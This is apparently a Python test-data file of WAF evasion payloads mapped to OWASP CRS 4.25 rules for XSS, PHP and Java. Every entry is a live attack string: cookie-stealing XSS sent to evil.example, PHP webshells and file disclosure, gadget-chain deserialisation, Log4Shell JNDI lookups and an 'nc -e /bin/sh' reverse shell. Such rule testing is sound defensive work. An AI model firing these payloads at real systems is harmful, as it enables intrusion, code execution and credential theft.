"""Blind attack batch Y: branches and transformations of CRS 4.25 PL1/PL2 rules for XSS, PHP, Java and generic."""
from __future__ import annotations

BLIND_ATTACKS_Y = [
    # --- 941100/941101 libinjection XSS ---
    ("xss", "941100 libinjection: img onerror in search", "query", "q", "\"><img src=x onerror=prompt(document.domain)>"),
    ("xss", "941100 libinjection: body onpageshow in JSON", "json", "bio", "<body onpageshow=alert(document.cookie)>"),
    ("xss", "941100 libinjection: XSS in cookie value", "cookie", "lang", "en\"><svg/onload=alert(1)>"),
    ("xss", "941101 libinjection: XSS in Referer header", "header:Referer", "", "https://example.com/?\"><script>alert(document.domain)</script>"),
    ("xss", "941101 libinjection: XSS in URL path", "path", "", "/profile/\"><img src=1 onerror=alert(1)>"),
    # --- 941110 script tag vector ---
    ("xss", "941110 script tag with src to attacker host", "query", "callback", "<script src=//evil.example/x.js></script>"),
    ("xss", "941110 script tag html-entity encoded (htmlEntityDecode)", "query", "name", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "941110 script tag in User-Agent header", "header:User-Agent", "", "Mozilla/5.0 <script>new Image().src='//log.example/'+document.cookie</script>"),
    ("xss", "941110 script tag in XML element", "body:application/xml", "feedback", "<?xml version=\"1.0\"?><feedback><text>&lt;script&gt;alert(document.domain)&lt;/script&gt;</text></feedback>"),
    ("xss", "941110 script tag as parameter name", "path", "", "/search?<script>alert(1)</script>=1"),
    # --- 941120 event handler vector ---
    ("xss", "941120 onmouseover in attribute break-out", "query", "title", "\" onmouseover=\"alert(document.cookie)"),
    ("xss", "941120 onanimationstart handler", "json", "style", "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>"),
    ("xss", "941120 onpointerenter with slash separator", "cookie", "theme", "x\"/onpointerenter=alert(1)//"),
    ("xss", "941120 onbegin svg animate in XML attribute", "body:application/xml", "profile", "<?xml version=\"1.0\"?><profile name=\"&lt;svg&gt;&lt;animate onbegin=alert(1) attributeName=x dur=1s&gt;\"/>"),
    # --- 941130 attribute vector ---
    ("xss", "941130 xlink:href javascript in svg", "query", "icon", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>click</text></a></svg>"),
    ("xss", "941130 style expression() IE", "form", "color", "red;width:expression(alert(document.cookie))"),
    ("xss", "941130 formaction attribute javascript", "query", "q", "<button formaction=javascript:alert(1)>go</button>"),
    ("xss", "941130 data:text/html in src attribute", "json", "avatar", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("xss", "941130 object data:text/html in Referer", "header:Referer", "", "https://a.example/\"><object data=\"data:text/html,<script>alert(1)</script>\">"),
    # --- 941140 javascript URI vector ---
    ("xss", "941140 url(javascript:) in CSS background", "form", "css", "background:url(javascript:alert(1))"),
    ("xss", "941140 style import javascript", "query", "style", "<style>@import 'javascript:alert(1)';</style>"),
    ("xss", "941140 CSS-escaped url javascript (cssDecode)", "query", "bg", "background-image:\\75\\72\\6c(javascript:alert(1))"),
    ("xss", "941140 vbscript in link href style", "cookie", "skin", "<link rel=stylesheet href=\"javascript:alert(document.domain)\">"),
    # --- 941150 disallowed HTML attributes ---
    ("xss", "941150 dynsrc attribute", "query", "q", "<img dynsrc=\"javascript:alert(1)\">"),
    ("xss", "941150 lowsrc attribute", "form", "img", "<img lowsrc=javascript:alert('XSS')>"),
    ("xss", "941150 style attribute with expression", "json", "html", "<div style=\"width:expression(alert(1))\">x</div>"),
    ("xss", "941150 datasrc / datafld binding", "header:User-Agent", "", "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>"),
    # --- 941160 NoScript HTML injection ---
    ("xss", "941160 iframe srcdoc injection", "query", "embed", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("xss", "941160 object tag with data javascript", "form", "content", "<object data=javascript:alert(1)>"),
    ("xss", "941160 form action injection for credential theft", "json", "note", "<form action=https://evil.example/steal><input name=password type=password></form>"),
    ("xss", "941160 meta refresh to javascript", "cookie", "notice", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    # --- 941170 NoScript attribute injection ---
    ("xss", "941170 attribute break to javascript href", "query", "url", "\" href=javascript:alert(1) x=\""),
    ("xss", "941170 data:text/html src attribute", "form", "link", "src=data:text/html,<script>alert(1)</script>"),
    ("xss", "941170 vbscript: scheme in href", "header:Referer", "", "vbscript:msgbox(\"XSS\")"),
    # --- 941180 node-validator deny list keywords ---
    ("xss", "941180 document.cookie exfil via location", "query", "next", "';window.location='//evil.example/c?'+document.cookie;//"),
    ("xss", "941180 innerHTML sink via querySelector", "json", "widget", "document.querySelector('#out').innerHTML=location.hash.slice(1)"),
    ("xss", "941180 -moz-binding XBL in CSS", "cookie", "css", "-moz-binding:url(//evil.example/xss.xml#xss)"),
    ("xss", "941180 CDATA-wrapped script in XML element", "body:application/xml", "comment", "<?xml version=\"1.0\"?><comment><body><![CDATA[<script>document.body.appendChild(document.createElement('script')).src='//evil.example/a.js'</script>]]></body></comment>"),
    # --- 941181 node-validator html comment close ---
    ("xss", "941181 HTML comment breakout into script", "query", "q", "--><script>alert(document.domain)</script><!--"),
    ("xss", "941181 comment close breakout with svg in form", "form", "notes", "x--><svg onload=alert(1)>"),
    ("xss", "941181 comment close html-entity encoded", "cookie", "banner", "--&gt;&lt;img src=x onerror=alert(1)&gt;"),
    # --- 941190 style tag attacks ---
    ("xss", "941190 style @import remote sheet", "query", "theme", "<style>@import url(//evil.example/x.css);</style>"),
    ("xss", "941190 style tag with behavior url htc", "form", "css", "<style>body{behavior:url(//evil.example/xss.htc)}</style>"),
    ("xss", "941190 style tag with entity-encoded colon", "json", "skin", "<style>li{list-style-image&#58;url(javascript:alert(1))}</style>"),
    ("xss", "941190 style tag with backslash escape", "query", "q", "<STYLE type=text/css>.x{background-image:\\75\\72\\6C(javascript:alert(1))}</STYLE>"),
    # --- 941200 VML frame ---
    ("xss", "941200 VML vmlframe src", "query", "q", "<v:vmlframe src=\"//evil.example/xss.vml#xss\"></v:vmlframe>"),
    ("xss", "941200 VML frame with namespace import", "form", "html", "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"foo.vml#xss\" />"),
    ("xss", "941200 vmlframe in cookie", "cookie", "tpl", "<x:vmlframe src=//evil.example/v.vml>"),
    # --- 941210 obfuscated javascript word ---
    ("xss", "941210 javascript with tab inside scheme", "query", "url", "java\tscript:alert(1)"),
    ("xss", "941210 javascript with &#x09; entity inside", "form", "href", "jav&#x09;ascript:alert(document.domain)"),
    ("xss", "941210 javascript fully decimal-entity encoded", "query", "link", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("xss", "941210 javascript with &Tab; and &NewLine;", "json", "website", "java&Tab;scr&NewLine;ipt&colon;alert(1)"),
    # --- 941220 obfuscated vbscript word ---
    ("xss", "941220 vbscript with tab", "query", "url", "vb\tscript:msgbox(1)"),
    ("xss", "941220 vbscript entity encoded letters", "form", "href", "&#118;&#98;script:MsgBox(\"x\")"),
    ("xss", "941220 vbscript hex entities with newline", "json", "link", "v&#x62;s&#x0A;cript:execute(\"msgbox 1\")"),
    # --- 941230 embed tag ---
    ("xss", "941230 embed with flash src", "query", "video", "<embed src=\"//evil.example/xss.swf\" allowscriptaccess=always>"),
    ("xss", "941230 embed type with slash separator", "form", "media", "<EMBED/type=\"image/svg+xml\"/src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("xss", "941230 embed in XML element", "body:application/xml", "post", "<?xml version=\"1.0\"?><post><body>&lt;embed src=//evil.example/a.svg&gt;</body></post>"),
    # --- 941240 import implementation (IE HTC) ---
    ("xss", "941240 IE import implementation htc", "query", "q", "<?import namespace=\"t\" implementation=\"#default#time2\">"),
    ("xss", "941240 import implementation with remote htc", "form", "body", "<import namespace=x implementation=\"//evil.example/x.htc\">"),
    ("xss", "941240 import implementation in cookie", "cookie", "layout", "<?import namespace=\"xss\" implementation=\"http://evil.example/xss.htc\">"),
    # --- 941250 meta http-equiv ---
    ("xss", "941250 meta http-equiv Set-Cookie session fixation", "query", "q", "<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=attacker\">"),
    ("xss", "941250 meta http-equiv Content-Security-Policy override", "form", "descr", "<META HTTP-EQUIV=\"Content-Security-Policy\" CONTENT=\"script-src *\">"),
    ("xss", "941250 meta http-equiv refresh with slashes", "json", "msg", "<meta/http-equiv=refresh/content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    # --- 941260 meta charset ---
    ("xss", "941260 meta charset UTF-7 switch", "query", "q", "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("xss", "941260 meta charset in form", "form", "header", "<META charset=x-imap4-modified-utf7>"),
    ("xss", "941260 meta content charset plus separator", "cookie", "hdr", "<meta+charset=utf-16be>"),
    # --- 941270 link href ---
    ("xss", "941270 link stylesheet remote", "query", "q", "<link rel=\"stylesheet\" href=\"//evil.example/steal.css\">"),
    ("xss", "941270 link import html", "form", "sig", "<LINK REL=import HREF=\"//evil.example/x.html\">"),
    ("xss", "941270 link href in XML element", "body:application/xml", "page", "<?xml version=\"1.0\"?><page><head>&lt;link rel=prefetch href=//evil.example/?c=leak&gt;</head></page>"),
    # --- 941280 base href ---
    ("xss", "941280 base href hijack relative scripts", "query", "lang", "<base href=\"https://evil.example/\">"),
    ("xss", "941280 base href javascript", "form", "title", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    ("xss", "941280 base tag in cookie", "cookie", "pref", "<base/href=//evil.example>"),
    # --- 941290 applet ---
    ("xss", "941290 applet tag code attribute", "query", "q", "<applet code=\"Exploit.class\" codebase=\"//evil.example/\"></applet>"),
    ("xss", "941290 applet tag in form", "form", "content", "<APPLET>"),
    ("xss", "941290 applet tag with slash", "json", "about", "<applet/archive=//evil.example/x.jar code=X>"),
    # --- 941300 object tag ---
    ("xss", "941300 object classid ActiveX", "query", "q", "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><param name=DataURL value=\"//evil.example/x\"></object>"),
    ("xss", "941300 object type text/x-scriptlet", "form", "widget", "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//evil.example/scriptlet.html\"></OBJECT>"),
    ("xss", "941300 object codetype", "cookie", "embed", "<object codetype=application/x-shockwave-flash data=//evil.example/x.swf>"),
    # --- 941310 US-ASCII malformed encoding ---
    ("xss", "941310 US-ASCII 7-bit shifted script tag", "query", "q", "\udcbcscript\udcbealert(1)\udcbc/script\udcbe"),
    ("xss", "941310 US-ASCII shifted svg", "form", "name", "\udcbcsvg onload=alert(1)\udcbe"),
    # --- 941320 HTML tag handler ---
    ("xss", "941320 marquee tag injection", "query", "q", "<marquee onstart=alert(1)>x</marquee>"),
    ("xss", "941320 isindex tag with action", "form", "body", "<isindex type=image src=1 action=javascript:alert(1)>"),
    ("xss", "941320 bgsound tag", "cookie", "music", "<bgsound src=\"javascript:alert(1)\">"),
    ("xss", "941320 frameset onload", "header:User-Agent", "", "<frameset onload=alert(document.cookie)>"),
    # --- 941330 IE filters: quote then location/name/onerror/valueOf ---
    ("xss", "941330 quote breakout to location assignment", "query", "q", "\";location='//evil.example/?'+document.cookie;//"),
    ("xss", "941330 unicode-escaped location", "form", "redirect", "';\\u006C\\u006F\\u0063\\u0061\\u0074\\u0069\\u006F\\u006E='javascript:alert(1)';//"),
    ("xss", "941330 onerror assignment via quote breakout", "json", "name", "';onerror=alert;throw 1//"),
    # --- 941340 IE filters: quote then property assignment ---
    ("xss", "941340 quote breakout document.location assignment", "query", "callback", "\";document.location.href=\"//evil.example\";//"),
    ("xss", "941340 quote breakout prototype overwrite", "form", "sort", "');top.location.hash='x';('"),
    ("xss", "941340 quote breakout window.name set", "query", "cb", "\";top.opener.location=\"//evil.example/phish\";//"),
    # --- 941350 UTF-7 ---
    ("xss", "941350 UTF-7 encoded script tag", "query", "q", "+ADw-script+AD4-alert(document.domain)+ADw-/script+AD4-"),
    ("xss", "941350 UTF-7 encoded img onerror", "form", "msg", "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"),
    ("xss", "941350 UTF-7 in cookie", "cookie", "enc", "+ADw-svg onload+AD0-alert(1)+AD4-"),
    # --- 941360 JSFuck / Hieroglyphy ---
    ("xss", "941360 JSFuck alert fragment", "query", "q", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"),
    ("xss", "941360 JSFuck constructor chain", "form", "code", "(![]+[])[+!+[]]+(!![]+[])[+[]]+([][[]]+[])[+!+[]]"),
    ("xss", "941360 Hieroglyphy style payload", "json", "data", "(+{}+[])[+!![]]+([]+!![])[+!![]]+(![]+[])[!![]+!![]]"),
    # --- 941370 JS global variable ---
    ("xss", "941370 window bracket concatenation", "query", "q", "window['al'+'ert'](document['cook'+'ie'])"),
    ("xss", "941370 self with comment in bracket", "form", "name", "self/*x*/['ale'+'rt'](1)"),
    ("xss", "941370 globalThis bracket access", "json", "expr", "globalThis[`ev`+`al`](`alert(1)`)"),
    ("xss", "941370 top with hex-escaped string", "cookie", "v", "top[\"\\x61\\x6c\\x65\\x72\\x74\"](1)"),
    # --- 941380 AngularJS CSTI ---
    ("xss", "941380 AngularJS sandbox escape constructor", "query", "q", "{{constructor.constructor('alert(1)')()}}"),
    ("xss", "941380 AngularJS 1.5 sandbox escape", "form", "name", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    ("xss", "941380 AngularJS $on event payload", "json", "title", "{{$on.constructor('alert(document.domain)')()}}"),
    ("xss", "941380 AngularJS orderBy filter escape", "cookie", "tpl", "{{[].pop.constructor('alert(1)')()}}"),
    # --- 941390 JavaScript method ---
    ("xss", "941390 setTimeout string eval", "query", "q", "setTimeout('alert(document.cookie)',0)"),
    ("xss", "941390 atob base64 eval", "form", "data", "eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))"),
    ("xss", "941390 new Function body", "json", "formula", "new Function('return fetch(\"//evil.example/\"+document.cookie)')()"),
    ("xss", "941390 setInterval with jsDecode unicode escape", "cookie", "x", "\\u0073etInterval('alert(1)',1000)"),
    ("xss", "941390 dynamic import of remote module", "query", "mod", "import('//evil.example/x.js')"),
    # --- 941400 JS function without parentheses ---
    ("xss", "941400 array map call tagged template", "query", "q", "[].map.call`${eval}\\x61lert\\x281\\x29`"),
    ("xss", "941400 Reflect.apply.call tagged template", "form", "v", "Reflect.apply.call`${alert}${window}${[1]}`"),
    ("xss", "941400 sort.call tagged template", "json", "x", "[].sort.call`${alert}1337`"),
    # --- 933100 PHP open tag ---
    ("php", "933100 short echo tag with system", "query", "name", "<?= `id` ?>"),
    ("php", "933100 php open tag with tab", "form", "content", "<?php\tsystem($_GET['c']); ?>"),
    ("php", "933100 BBCode-style [php] tag (forum CMS)", "form", "post", "[php]echo shell_exec('id');[/php]"),
    ("php", "933100 Smarty {php} tag", "query", "template", "{php}system('cat /etc/passwd');{/php}"),
    ("php", "933100 php tag in XML element", "body:application/xml", "import", "<?xml version=\"1.0\"?><item><desc>&lt;?php eval($_POST[1]);?&gt;</desc></item>"),
    # --- 933110 / 933111 PHP script upload ---
    ("php", "933110 upload of .phtml webshell", "multipart", "file", "shell.phtml"),
    ("php", "933110 upload of .php5 webshell", "multipart", "file", "avatar.php5"),
    ("php", "933110 upload with trailing dot (Windows)", "multipart", "file", "cmd.php."),
    ("php", "933110 X-Filename header with .phps", "raw", "", "PUT /upload HTTP/1.1\r\nHost: shop.example.com\r\nX-Filename: backdoor.PHP7\r\nContent-Type: application/octet-stream\r\nContent-Length: 29\r\n\r\n<?php system($_GET['c']); ?>\n"),
    # --- 933120 PHP configuration directives ---
    ("php", "933120 auto_prepend_file via ini injection", "form", "settings", "auto_prepend_file=php://input"),
    ("php", "933120 allow_url_include enable (CVE-2012-1823 style)", "path", "", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("php", "933120 .user.ini open_basedir override", "json", "config", "open_basedir=/\ndisable_functions="),
    ("php", "933120 assert.active directive", "query", "opt", "assert.active=1"),
    # --- 933130 PHP variables ---
    ("php", "933130 $_SERVER superglobal reference", "query", "q", "print_r($_SERVER)"),
    ("php", "933130 $GLOBALS dump", "form", "expr", "var_dump($GLOBALS);"),
    ("php", "933130 $HTTP_RAW_POST_DATA legacy", "json", "code", "eval($HTTP_RAW_POST_DATA);"),
    ("php", "933130 $_COOKIE in param name", "path", "", "/index.php?$_COOKIE[x]=1"),
    # --- 933135 PHP variable access ---
    ("php", "933135 complex syntax ${} function call", "query", "name", "${system('id')}"),
    ("php", "933135 ${ } with whitespace", "form", "title", "${ phpinfo() }"),
    ("php", "933135 ${} in URL path (preg_replace /e style)", "path", "", "/page/${@print(md5(31337))}"),
    ("php", "933135 variable variable in cookie", "cookie", "lang", "${${eval($_GET[c])}}"),
    # --- 933140 php:// I/O streams ---
    ("php", "933140 php://filter base64 source disclosure", "query", "page", "php://filter/convert.base64-encode/resource=config.php"),
    ("php", "933140 php://input include", "form", "include", "PHP://INPUT"),
    ("php", "933140 php://fd leak", "query", "file", "php://fd/3"),
    ("php", "933140 php://memory / temp write", "json", "path", "php://temp/maxmemory:1024"),
    ("php", "933140 php://filter chain iconv in XML", "body:application/xml", "doc", "<?xml version=\"1.0\"?><doc><src>php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=/etc/passwd</src></doc>"),
    # --- 933150 high-risk PHP function names ---
    ("php", "933150 base64_decode eval chain", "query", "data", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))"),
    ("php", "933150 call_user_func system", "form", "cb", "call_user_func('system','id')"),
    ("php", "933150 file_get_contents of /etc/passwd", "json", "src", "file_get_contents('/etc/passwd')"),
    ("php", "933150 gzinflate obfuscated webshell", "query", "x", "gzinflate(str_rot13(base64_decode($_POST[z])))"),
    ("php", "933150 get_defined_vars in param name", "path", "", "/api?get_defined_vars=1"),
    # --- 933151 medium-risk PHP function names ---
    ("php", "933151 array_map with system callback", "query", "f", "array_map('system',array('id'))"),
    ("php", "933151 apache_setenv abuse", "form", "x", "apache_setenv('LD_PRELOAD','/tmp/x.so')"),
    ("php", "933151 create_function injection", "json", "sort", "create_function('$a','system(\"id\");')"),
    ("php", "933151 chmod of uploaded shell", "cookie", "op", "chmod('/var/www/html/s.php',0777)"),
    # --- 933152 medium-risk PHP function names (k-q) ---
    ("php", "933152 ldap_connect probe", "query", "expr", "ldap_connect('ldap://evil.example')"),
    ("php", "933152 mail() header injection", "form", "cb", "mail('a@evil.example','x','y','','-X/var/www/html/s.php')"),
    ("php", "933152 posix_getpwuid recon", "json", "f", "posix_getpwuid(posix_geteuid())"),
    ("php", "933152 proc_open shell", "query", "c", "proc_open('id',array(),$p)"),
    # --- 933153 medium-risk PHP function names (r-z) ---
    ("php", "933153 readfile disclosure", "query", "expr", "readfile('/etc/passwd')"),
    ("php", "933153 register_shutdown_function backdoor", "form", "x", "register_shutdown_function('system','id')"),
    ("php", "933153 shell_exec call", "json", "cmd", "shell_exec('wget http://evil.example/x -O /tmp/x')"),
    ("php", "933153 set_error_handler assert trick", "cookie", "v", "set_error_handler('assert')"),
    ("php", "933153 symlink to read config", "query", "op", "symlink('/var/www/html/wp-config.php','/tmp/a.txt')"),
    # --- 933160 high-risk PHP function call ---
    ("php", "933160 passthru with comment before paren", "query", "c", "passthru/*x*/('id')"),
    ("php", "933160 quoted function name call", "form", "f", "\"system\"('ls -la')"),
    ("php", "933160 readfile with hash comment and newline", "json", "x", "readfile#c\n('/etc/passwd')"),
    ("php", "933160 unserialize call", "cookie", "d", "unserialize($_COOKIE['data'])"),
    ("php", "933160 phpinfo call in URL path", "path", "", "/index.php/phpinfo()"),
    # --- 933170 serialized object injection ---
    ("php", "933170 PHP object injection in cookie (Monolog gadget)", "cookie", "session", "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\x00*\\x00socket\";O:29:\"Monolog\\Handler\\BufferHandler\":0:{}}"),
    ("php", "933170 serialized object in form field", "form", "data", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php", "933170 C: custom serialized ArrayObject", "query", "state", "C:11:\"ArrayObject\":37:{x:i:0;a:1:{s:1:\"a\";i:1;};m:a:0:{}}"),
    ("php", "933170 serialized object in JSON", "json", "cart", "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"*events\";O:15:\"Faker\\Generator\":1:{s:13:\"*formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"*event\";s:2:\"id\";}"),
    ("php", "933170 serialized object in custom header", "header:X-Session-Data", "", "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}"),
    # --- 933180 variable function call ---
    ("php", "933180 $_GET variable function", "query", "x", "$_GET[f]($_GET[c])"),
    ("php", "933180 variable function with spaces and comment", "form", "code", "$a /*x*/ ('id')"),
    ("php", "933180 ${} variable function call", "json", "x", "${'_'.'GET'}[0]($_GET[1])"),
    ("php", "933180 double-dollar variable function", "cookie", "c", "$$x('whoami')"),
    # --- 933200 PHP wrapper schemes ---
    ("php", "933200 expect:// command execution", "query", "page", "expect://id"),
    ("php", "933200 zip:// include of uploaded archive", "form", "file", "zip://uploads/avatar.jpg#shell.php"),
    ("php", "933200 phar:// deserialisation trigger", "json", "path", "phar:///var/www/uploads/img.gif/test.txt"),
    ("php", "933200 glob:// directory listing", "query", "dir", "glob:///var/www/html/*.php"),
    ("php", "933200 compress.zlib:// / zlib wrapper", "cookie", "tpl", "compress.zlib:///etc/passwd"),
    ("php", "933200 ssh2.exec wrapper", "query", "src", "ssh2.exec://user:pass@10.0.0.1:22/id"),
    ("php", "933200 rar:// with NUL inserted (removeNulls)", "form", "f", "ra\u0000r://uploads/x.rar#shell.php"),
    # --- 933210 variable function call (obfuscated) ---
    ("php", "933210 concatenated string function name", "query", "x", "(\"sys\".\"tem\")(\"id\");"),
    ("php", "933210 array index function call", "form", "code", "$_GET[0]($_GET[1]);"),
    ("php", "933210 string function with inline comments", "json", "expr", "('sy'/**/.'stem')('cat /etc/passwd');"),
    ("php", "933210 strrev-built function name", "cookie", "c", "(strrev('metsys'))('id');"),
    # --- 933220 PHP session file upload ---
    ("php", "933220 upload named as PHP session file", "multipart", "file", "sess_7f3d9a1b2c4e5f60718293a4b5c6d7e8"),
    ("php", "933220 upload into /tmp session path", "multipart", "upload", "/var/lib/php/sessions/sess_abcdef0123456789abcdef"),
    ("php", "933220 X-File-Name sess_ upload", "raw", "", "POST /upload.php HTTP/1.1\r\nHost: shop.example.com\r\nX-File-Name: ../../tmp/sess_9a8b7c6d5e4f3a2b1c0d9e8f\r\nContent-Type: application/octet-stream\r\nContent-Length: 35\r\n\r\nuser|s:5:\"admin\";role|s:5:\"admin\";"),
    # --- 944100 java.lang.Runtime / ProcessBuilder ---
    ("java", "944100 OGNL Runtime exec (Struts)", "query", "redirect", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("java", "944100 SpEL ProcessBuilder", "form", "expr", "T(java.lang.ProcessBuilder).new({'bash','-c','id'}).start()"),
    ("java", "944100 mixed-case java.lang.RUNTIME (lowercase t:)", "header:User-Agent", "", "Mozilla/5.0 ${T(JAVA.LANG.RUNTIME).getRuntime().exec('curl evil.example')}"),
    ("java", "944100 ProcessBuilder in XML attribute", "body:application/xml", "job", "<?xml version=\"1.0\"?><job cmd=\"new java.lang.ProcessBuilder('id').start()\"/>"),
    # --- 944110 process spawn (CVE-2017-9805) ---
    ("java", "944110 XStream ProcessBuilder gadget (Struts REST)", "body:application/xml", "orders", "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/pwned</string></command><redirectErrorStream>false</redirectErrorStream></next></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>"),
    ("java", "944110 Runtime getRuntime in cookie", "cookie", "pref", "T(Runtime).getRuntime().exec(\"nc -e /bin/sh 10.0.0.5 4444\")"),
    ("java", "944110 processbuilder in JSON", "json", "filter", "new ProcessBuilder(\"cmd.exe\",\"/c\",\"calc\").start()"),
    # --- 944120 / 944240 Java serialisation gadgets ---
    ("java", "944120 commons-collections InvokerTransformer chain", "body:application/xml", "import", "<java><object class=\"org.apache.commons.collections.functors.InvokerTransformer\"><string>exec</string><array class=\"java.lang.Class\" length=\"1\"><void index=\"0\"><class>java.lang.String</class></void></array><array class=\"java.lang.Object\" length=\"1\"><void index=\"0\"><string>calc</string></void></array></object></java>"),
    ("java", "944120 XMLDecoder with java Runtime", "body:text/xml", "rpc", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></object></java>"),
    ("java", "944120 InstantiateTransformer gadget name in param", "form", "state", "org.apache.commons.collections4.functors.InstantiateTransformer java.lang.Runtime"),
    ("java", "944240 ChainedTransformer ForClosure gadget", "json", "payload", "org.apache.commons.collections.functors.ForClosure"),
    ("java", "944240 PrototypeSerializationFactory gadget", "cookie", "rememberMe", "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory"),
    ("java", "944240 WhileClosure gadget in XML", "body:application/xml", "data", "<?xml version=\"1.0\"?><obj class=\"org.apache.commons.collections.functors.WhileClosure\"/>"),
    ("java", "944240 CloneTransformer gadget in header", "header:X-Payload", "", "org.apache.commons.collections.functors.CloneTransformer"),
    # --- 944130 suspicious Java classes ---
    ("java", "944130 javax.naming.InitialContext lookup", "query", "q", "new javax.naming.InitialContext().lookup('ldap://evil.example/a')"),
    ("java", "944130 ScriptEngineManager JS exec", "form", "expr", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')"),
    ("java", "944130 OgnlContext member access reset", "query", "name", "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"),
    ("java", "944130 freemarker Execute utility", "json", "template", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("java", "944130 classLoader in URL path", "path", "", "/app/index.action?class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/"),
    # --- 944140 JSP upload ---
    ("java", "944140 JSP webshell upload", "multipart", "file", "cmd.jsp"),
    ("java", "944140 JSPX webshell upload uppercase", "multipart", "attachment", "shell.JSPX"),
    ("java", "944140 jsp upload with trailing dots", "multipart", "file", "report.jsp..."),
    ("java", "944140 X-Filename header jsp", "raw", "", "PUT /files/upload HTTP/1.1\r\nHost: app.example.com\r\nX-Filename: ../webapps/ROOT/x.jsp\r\nContent-Type: application/octet-stream\r\nContent-Length: 56\r\n\r\n<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"),
    # --- 944150 / 944151 Log4Shell ---
    ("java", "944150 Log4Shell in X-Api-Version header", "header:X-Api-Version", "", "${jndi:ldap://198.51.100.7:1389/Exploit}"),
    ("java", "944150 Log4Shell nested lower lookup", "header:User-Agent", "", "${${lower:j}ndi:${lower:r}mi://evil.example/o}"),
    ("java", "944150 Log4Shell env default-value obfuscation", "query", "q", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}"),
    ("java", "944150 Log4Shell html-entity dollar brace", "form", "username", "&dollar;&lbrace;jndi:dns://evil.example/x}"),
    ("java", "944150 Log4Shell ctx lookup in cookie", "cookie", "JSESSIONID", "${ctx:loginId}"),
    ("java", "944150 Log4Shell in request line", "path", "", "/${jndi:ldap://evil.example/a}"),
    ("java", "944151 Log4Shell long ::- padding obfuscation", "header:Referer", "", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}"),
    ("java", "944151 Log4Shell upper lookup with date prefix", "json", "message", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/q}"),
    ("java", "944151 Log4Shell jsDecode unicode-escaped", "json", "name", "\\u0024\\u007b${sys:user.name}jndi:ldap://evil.example/}"),
    # --- 944200 / 944210 Java serialisation magic bytes ---
    ("java", "944200 raw Java serialisation stream body", "body:application/x-java-serialized-object", "invoker", "\udcac\udced\u0000\u0005sr\u00002sun.reflect.annotation.AnnotationInvocationHandler"),
    ("java", "944200 serialized object in cookie", "cookie", "data", "\udcac\udced\u0000\u0005sr\u0000\u0011java.util.HashMap"),
    ("java", "944210 base64 rO0AB in rememberMe cookie (Shiro)", "cookie", "rememberMe", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHA="),
    ("java", "944210 base64 serialised ViewState (JSF)", "form", "javax.faces.ViewState", "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJ0AAEx"),
